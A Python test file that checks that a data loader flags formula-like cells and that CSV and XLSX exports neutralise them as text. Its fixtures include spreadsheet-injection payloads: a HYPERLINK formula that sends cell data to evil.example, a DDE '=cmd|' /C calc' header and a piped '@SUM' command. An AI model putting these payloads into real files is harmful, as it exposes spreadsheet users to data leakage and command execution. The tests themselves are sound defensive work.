"""Cells that begin like a spreadsheet formula: kept as data by the loader and flagged, and
written as text by every export (CSV and XLSX), headers included."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import neo4j
import pytest
from openpyxl import load_workbook
from starlette.applications import Starlette
from starlette.routing import Route
from typer.testing import CliRunner

from api.cli import app
from api.exports import export
from api.exporttable import Table, to_csv, to_xlsx
from api.settings import Settings
from loaders.formulas import looks_like_formula, neutralised
from tests.http_server import serving

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A3,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)|cmd",
    "\t=1",
    "\r=1",
]


def test_what_looks_like_a_formula() -> None:
    assert all(looks_like_formula(v) for v in HOSTILE)
    assert not any(looks_like_formula(v) for v in ("陕西甲有限公司", "a=b", -3, 2.5, None, ""))
    assert neutralised("=1+1") == "'=1+1" and neutralised("plain") == "plain"


def _table() -> Table:
    return Table.parse(
        {
            "title": "=title",
            "columns": ["=cmd|' /C calc'!A0", "value"],
            "rows": [[v, -5] for v in HOSTILE],
        }
    )


def test_csv_neutralises_every_formula_cell_and_keeps_numbers() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(_table()).decode("utf-8").lstrip("\ufeff"))))
    assert rows[0] == ["'=cmd|' /C calc'!A0", "value"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE]
    assert all(r[1] == "-5" for r in rows[1:])  # a negative number stays a number


def test_xlsx_writes_formula_like_cells_as_text() -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(_table()))).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert values[0][0] == "=cmd|' /C calc'!A0"  # the text intact, as text
    # (XML reads a carriage return back as a line feed: the cell is still that text)
    want = [v.replace("\r", "\n") for v in HOSTILE]
    assert [r[0] for r in values[1:]] == want and all(r[1] == -5 for r in values[1:])


@pytest.mark.neo4j
def test_a_formula_like_name_is_loaded_as_written_flagged_and_exported_as_text(
    db: neo4j.Driver, settings: Settings, tmp_path: Path
) -> None:
    name = '=HYPERLINK("http://evil.example","陕西甲科技有限公司")'
    path = tmp_path / "list.csv"
    path.write_text(
        f'企业名称,统一社会信用代码,发证日期\n"{name.replace(chr(34), chr(34) * 2)}",91350100M000100Y43,2023-12-12\n',
        encoding="utf-8",
    )
    env = {
        "INNOGRAPH_DATA_DIR": str(settings.data_dir),
        "INNOGRAPH_NEO4J_PORT": str(settings.bolt_port),
    }
    result = CliRunner().invoke(
        app, ["load", "--file", str(path), "--kind", "hightech", "--json"], env=env
    )
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert report["flagged"] == 1
    with Path(report["flags_file"]).open(encoding="utf-8-sig") as f:
        (flag,) = list(csv.DictReader(f))
    assert (flag["row"], flag["value"]) == ("2", name) and "formula" in flag["reason"]
    records, _, _ = db.execute_query(
        "MATCH (o:Organization {uscc: '91350100M000100Y43'}) RETURN o.name AS name"
    )
    assert records[0]["name"] == name  # kept as data, as stated
    web = Starlette(routes=[Route("/export/{format}", export, methods=["POST"])])
    table = {"title": "orgs", "columns": ["name"], "rows": [[records[0]["name"]]]}
    import httpx

    with serving(web) as url:
        text = httpx.post(f"{url}/export/csv", json=table).content.decode("utf-8-sig")
        sheet = load_workbook(
            io.BytesIO(httpx.post(f"{url}/export/xlsx", json=table).content)
        ).active
    assert text.splitlines()[1] == "\"'" + name.replace('"', '""') + '"'
    assert sheet is not None and sheet["A2"].data_type == "s" and sheet["A2"].value == name
